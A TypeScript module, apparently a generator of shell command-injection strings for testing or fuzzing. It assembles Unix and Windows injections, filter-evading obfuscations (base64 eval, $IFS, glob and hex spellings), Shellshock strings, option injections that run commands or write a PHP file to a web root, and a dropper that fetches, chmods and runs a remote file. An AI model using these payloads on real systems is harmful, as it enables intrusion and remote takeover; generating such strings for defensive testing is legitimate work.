// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell syntax, not templates

import type { Random } from "../random.ts"
import { codeCall, evaluatedCode, scriptTag, serverSideInclude } from "./code-injection.ts"
import { type Grammar, hostName, identifier, oneOf } from "./grammar.ts"
import { unixLine } from "./unix-commands.ts"
import { plainCommand } from "./unix-tricks.ts"
import { hostValue, insertPiece, windowsInjection } from "./windows-command-injection.ts"

/**
 * Injections into a shell, written from the POSIX shell language (XCU chapter 2), bash(1), and the
 * documentation of cmd.exe and PowerShell: a value, a way to begin another command, the command in
 * one of the spellings that the shell allows, and an ending.
 */
export function commandInjection(random: Random): string {
  return oneOf(random, FORMS)
}

const FORMS: readonly Grammar[] = [
  unixInjection,
  unixInjection,
  unixInjection,
  unixInjection,
  unixInjection,
  windowsInjection,
  windowsInjection,
  codeCall,
  codeCall,
  dropper,
  dropper,
  arithmeticProbe,
  shellshock,
  serverSideInclude,
  serverSideInclude,
  scriptTag,
  scriptTag,
  evaluatedCode,
  evaluatedCode,
  bareCommand,
  shortProbe,
  shortProbe,
  optionInjection,
]

/** A command that stands alone has arguments, or it would be a word like any other. */
function bareCommand(random: Random): string {
  const line = unixLine(random)
  return /[ /]/.test(line) ? line : bareCommand(random)
}

/** The few characters by which one first asks whether a field reaches a shell. */
function shortProbe(random: Random): string {
  const command = `${random.pick(["", "", "", "/bin/", "/usr/bin/"])}${plainCommand(random)}`
  const value = random.pick(["", "", "", "a", "1", "x", "test", "a)", "a'", 'a"', "index.html"])
  const gap = random.pick(["", "", " "])
  const [open, close] = random.pick([
    ["`", "`"],
    ["$(", ")"],
  ] as const)
  return oneOf(random, [
    () => `${value}${gap}${separator(random)}${gap}${command}${trailer(random)}`,
    () => `${value}${separator(random)}${command}${random.pick(["", ";", "|", "&", "#", "||"])}`,
    () => `${value}${open}${command}${close}`,
    () => `${command}${random.pick([";", "|", "\n"])}`,
  ])
}

/** Options by which a harmless program runs another, or writes where it is told to. */
function optionInjection(random: Random): string {
  const command = random.pick([plainCommand, unixLine])(random)
  return random.pick([
    `-oProxyCommand=${command}`,
    `--upload-pack=${command}`,
    `--use-compress-program=${command}`,
    `--checkpoint-action=exec=${command}`,
    `--output=/var/www/html/${identifier(random)}.php`,
    `-exec ${command} \\;`,
    `--rsh='${command}'`,
    `ext::sh -c ${command.replaceAll(" ", "% ")}`,
    `--pre-script=${command}`,
  ])
}

function unixInjection(random: Random): string {
  const command = disguise(random, unixLine(random))
  const open = random.pick(["", "", "", "'", '"', "')", '")', "\\"])
  const gap = random.pick(["", "", " "])
  const value = hostValue(random)
  const close = open === "" ? "" : random.pick(["", open.slice(0, 1), ` ${open.slice(0, 1)}`, " #"])
  return oneOf(random, [
    (r) => `${value}${open}${gap}${separator(r)}${gap}${command}${trailer(r)}${close}`,
    (r) => `${value}${open}${gap}${separator(r)}${gap}${command}${trailer(r)}${close}`,
    (r) => `${value}${open}${gap}${separator(r)}${gap}${command}${trailer(r)}${close}`,
    () => `${value}${open}$(${command})${close}`,
    () => `${value}${open}\`${command}\`${close}`,
    (r) => `${value}${gap}${r.pick([">", "<", ">>", "<("])}${gap}${command}`,
    (r) => `${value}${separator(r)}${command}${separator(r)}${unixLine(r)}`,
    (r) => `-${r.pick(["o", "e", "i", "exec"])} ${r.pick(["ProxyCommand=", ""])}${command}`,
    (r) =>
      `${identifier(r)}=${value}${encodeSeparator(separator(r))}${command.replaceAll(" ", r.pick(["+", "%20"]))}`,
  ])
}

function separator(random: Random): string {
  return random.pick([
    ";",
    ";",
    ";",
    "|",
    "|",
    "||",
    "&",
    "&&",
    "\n",
    "%0a",
    "%0d%0a",
    "\r\n",
    ";;",
    "|&",
    "& ",
    "; ",
    "%3b",
    "%7c",
    "%26",
    "%26%26",
    "%0A",
    "\\n",
    "';'",
    "|| ",
    " | ",
  ])
}

function encodeSeparator(text: string): string {
  return text.replace(/[;|&\n\r]/g, (character) => encodeURIComponent(character))
}

function trailer(random: Random): string {
  return random.pick([
    "",
    "",
    "",
    "",
    ";",
    "#",
    " #",
    "|",
    "&",
    "||",
    " &",
    "\n",
    "%0a",
    ";echo",
    " -- ",
    "'",
    '"',
    "%00",
    " 2>&1",
    " > /dev/null",
  ])
}

/** Spellings that the shell undoes: quotes, backslashes, expansions, globs, encodings. */
function disguise(random: Random, line: string): string {
  if (random.chance(0.6)) return line
  return oneOf(random, [
    (r) =>
      line.replaceAll(
        " ",
        r.pick(["${IFS}", "$IFS", "$IFS$9", "%09", "\t", "+", "%20", "<", "{,}"]),
      ),
    (r) =>
      line.replace(/^[a-z]+/, (word) =>
        insertPiece(r, word, r.pick(["''", '""', "\\", "$@", "$*", "${x}", "``", "$1"])),
      ),
    (r) => line.replace(/^[a-z]+/, (word) => `${r.pick(["'", '"'])}${word}${r.pick(["'", '"'])}`),
    (r) => line.replace(/[a-z]+$/, (word) => insertPiece(r, word, r.pick(["?", "*", "''", "\\"]))),
    () => `{${line.replaceAll(" ", ",")}}`,
    () => `$'${[...line].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join("")}'`,
    () => `eval $(echo ${btoa(line)} | base64 -d)`,
    () => `$(printf '${[...line].map((c) => `\\${c.charCodeAt(0).toString(8)}`).join("")}')`,
    () => `$(rev<<<'${[...line].reverse().join("")}')`,
    (r) =>
      line.replaceAll("/", r.pick(["${HOME:0:1}", "${PATH:0:1}", "$(echo . | tr '!-0' '\"-1')"])),
    (r) =>
      line.replace(
        /^([a-z])([a-z]+)/,
        (_, head: string, tail: string) => `${identifier(r).slice(0, 1)}=${head};b=${tail};$a$b`,
      ),
    () => line.replace("/etc/passwd", "/???/p??s??"),
    (r) =>
      line.replace(
        /^[a-z]+/,
        (word) => `/${r.pick(["bin", "b?n", "???", "usr/bin"])}/${insertPiece(r, word, "?")}`,
      ),
    () => line.replace(/^[a-z]+/, (word) => insertPiece(random, word, "$()")),
    () => line.replace(/^[a-z]+/, (word) => word.split("").join(random.pick(["\\", "''", '""']))),
    () => `eval "$(echo ${[...line].map((c) => c.charCodeAt(0).toString(16)).join("")}|xxd -r -p)"`,
    () =>
      `${random.pick(["bash", "sh"])}<<<${random.pick(["'", '"'])}${line}${random.pick(["'", '"'])}`,
    () => `IFS=,;\`cat<<<${line.replaceAll(" ", ",")}\``,
    () => `X='${line}';$X`,
  ])
}

/** Fetch, make executable, run: how a machine is taken over by one request. */
function dropper(random: Random): string {
  const [file, host] = [identifier(random), hostName(random)]
  const directory = random.pick(["/tmp", "/var/tmp", "/dev/shm", "/var/run", "/", "/mnt"])
  const tool = random.pick(["", "/bin/busybox ", "busybox "])
  const steps = [
    `cd ${directory}`,
    random.pick(["rm -rf *", `rm -rf ${file}`, `rm -f ${file}*`, ""]),
    random.pick([
      `${tool}wget http://${host}/${file}`,
      `${tool}wget${random.pick(["", " -q"])} http://${host}/${file} -O ${directory}/${file}`,
      `curl -O http://${host}/${file}`,
      `tftp -g -r ${file} ${host}`,
      `ftpget -u anonymous ${host} ${file} ${file}`,
    ]),
    random.pick([`chmod 777 ${file}`, `chmod +x ${file}`, "chmod 777 *", ""]),
    random.pick([
      `./${file}`,
      `sh ${file}`,
      `./${file} ${identifier(random)}`,
      `sh ${file} &`,
      `rm -rf ${file}`,
    ]),
  ].filter((step) => step !== "")
  const line = steps.join(random.pick(["; ", ";", " && ", "&&", "%3B", "%20%26%26%20", "|"]))
  const spelled = line.replaceAll(" ", random.pick([" ", " ", "+", "%20", "${IFS}"]))
  const [open, close] = random.pick([
    [";", ""],
    ["`", "`"],
    ["$(", ")"],
    ["|", ""],
    ["", ""],
    ["';", ";'"],
    ["&", "&"],
    ["\n", "\n"],
  ] as const)
  return `${hostValue(random)}${open}${spelled}${close}`
}

/** Makes the shell compute: the answer proves that one ran. */
function arithmeticProbe(random: Random): string {
  const [left, right] = [random.below(10_000), random.below(10_000)]
  const probe = random.pick([
    `expr ${left} ${random.pick(["+", "-", "\\*"])} ${right}`,
    `echo $((${left}${random.pick(["+", "*", "-"])}${right}))`,
    `echo ${identifier(random)}|md5sum`,
    `printf %d $((${left}+${right}))`,
    `let x=${left}+${right};echo $x`,
    `set /a (${left}+${right})`,
    `if [ ${left} -lt ${right} ]; then sleep ${random.between(1, 9)}; fi`,
  ])
  const spelled = random.chance(0.4) ? encodeURIComponent(probe) : probe
  const joint = `${random.pick(["", "'", '"'])}${separator(random)}`
  return `${hostValue(random)}${joint}${spelled}${trailer(random)}`
}

function shellshock(random: Random): string {
  const ignored = random.pick([":;", ":; ", "ignored;", "_; "])
  return `() { ${ignored}}; ${random.pick(["", "echo; ", "/bin/bash -c ", "echo Content-Type: text/plain; echo; "])}${unixLine(random)}`
}
